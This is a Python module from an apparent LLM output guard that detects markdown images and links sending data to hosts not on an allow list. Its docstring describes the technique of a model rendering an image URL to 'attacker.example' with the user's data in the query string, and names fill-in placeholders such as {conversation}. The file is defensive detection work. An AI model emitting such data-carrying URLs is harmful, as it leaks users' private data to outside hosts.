"""`exfil_url`: markdown images and links that would carry data to a foreign host.

A model that renders `![](https://attacker.example/p.png?d=<the user's data>)` leaks
the data the moment the client fetches the image; a link leaks it on a click. A URL
is reported when its host is not on the allow list and a query or fragment value
carries data: Base64 / hex that decodes to readable text, a template placeholder the
model is asked to fill (`{conversation}`, `[DATA]`), personal data or a secret, or,
for images, URL-encoded prose. Opaque tokens alone are not enough: signed CDN URLs
and tracking ids are everywhere.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from urllib.parse import parse_qsl, urlsplit

from tokenward.guard.detectors.base import ScanContext
from tokenward.guard.findings import Finding, FindingType

_URL = r"(https?://[^\s)<>\"']+)"
#: Matched right after "](" (markdown) or at "<img" (HTML).
_MARKDOWN_URL = re.compile(r"\]\(\s*<?" + _URL)
_IMG_URL = re.compile(r"<img\b[^>]{0,300}?\bsrc\s*=\s*[\"']?" + _URL, re.IGNORECASE)
_PLACEHOLDER = re.compile(
    r"^(?:[\[{<]{1,2}\s*\$?[A-Za-z_\u4e00-\u9fff][\w\u4e00-\u9fff]{1,30}\s*[\]}>]{1,2}|\$[A-Z_]{3,})$"
)
_B64 = re.compile(r"[A-Za-z0-9+/_\-]{16,}={0,2}")
_HEXRUN = re.compile(r"(?:[0-9a-fA-F]{2}){8,}")
_CJK = re.compile(r"[\u4e00-\u9fff]")
#: Secrets that signed URLs carry by design (SigV4 puts the access key ID in the query).
_BY_DESIGN = frozenset(("secret_aws_access_key",))


def host_allowed(host: str, allow: frozenset[str]) -> bool:
    """True when `host` equals an allowed host or is a subdomain of a "*." entry."""
    host = host.lower().rstrip(".")
    for entry in allow:
        entry = entry.lower()
        if host == entry or (entry.startswith("*.") and host.endswith(entry[1:])):
            return True
    return False


def readable(text: str) -> bool:
    """Text a person wrote: printable, and words (spaces) or Chinese characters."""
    if len(text) < 10:
        return False
    printable = sum(1 for c in text if c.isprintable() or c in "\n\t")
    if printable < 0.95 * len(text):
        return False
    return text.count(" ") >= 2 or len(_CJK.findall(text)) >= 4


def decoded_text(value: str) -> str | None:
    """`value` decoded from Base64 / Base64url / hex when that yields readable text."""
    if _HEXRUN.fullmatch(value):
        try:
            out = bytes.fromhex(value).decode("utf-8")
        except ValueError:
            out = ""
        if readable(out):
            return out
    if _B64.fullmatch(value):
        padded = value + "=" * (-len(value) % 4)
        for decode in (base64.b64decode, base64.urlsafe_b64decode):
            try:
                out = decode(padded).decode("utf-8")
            except (ValueError, binascii.Error):
                continue
            if readable(out):
                return out
    return None


class ExfilUrlDetector:
    """Finds data-carrying markdown images and links to hosts not on the allow list."""

    types: tuple[FindingType, ...] = ("exfil_url",)
    anchors: tuple[str, ...] = ("](", "<img")

    def find(self, text: str, ctx: ScanContext) -> Iterator[Finding]:
        for start in (ctx.hits or {}).get("](", ()):
            m = _MARKDOWN_URL.match(text, start)
            if m is None:
                continue
            opening = text.rfind("[", max(0, start - 300), start)
            image = opening > 0 and text[opening - 1] == "!"
            yield from self._check(m.group(1), m.start(1), image, ctx)
        for start in (ctx.hits or {}).get("<img", ()):
            m = _IMG_URL.match(text, start)
            if m is not None:
                yield from self._check(m.group(1), m.start(1), True, ctx)

    def _check(self, url: str, start: int, image: bool, ctx: ScanContext) -> Iterator[Finding]:
        try:
            parts = urlsplit(url)
        except ValueError:
            return
        host = parts.hostname or ""
        if not host or host_allowed(host, ctx.allow_hosts):
            return
        values = [(k, v) for k, v in parse_qsl(parts.query, keep_blank_values=True)]
        if parts.fragment:
            values.append(("#", parts.fragment))
        for name, value in values:
            carried = self._carries(value, image, ctx)
            if carried:
                what = "image" if image else "link"
                reason = f"markdown {what} to {host} carries {carried} in '{name[:20]}'"
                score = 0.9 if image else 0.75
                yield Finding("exfil_url", start, start + len(url), score, reason)
                return

    def _carries(self, value: str, image: bool, ctx: ScanContext) -> str | None:
        if _PLACEHOLDER.match(value.strip()):
            return "a placeholder for the model to fill"
        found = [f for f in ctx.subscan(value) if f.type not in _BY_DESIGN]
        if found:
            return found[0].type.replace("_", " ")
        if decoded_text(value) is not None:
            return "encoded text"
        if image and readable(value) and (len(value.split()) >= 3 or len(_CJK.findall(value)) >= 6):
            return "URL-encoded text"
        return None


__all__ = ["ExfilUrlDetector", "decoded_text", "host_allowed", "readable"]
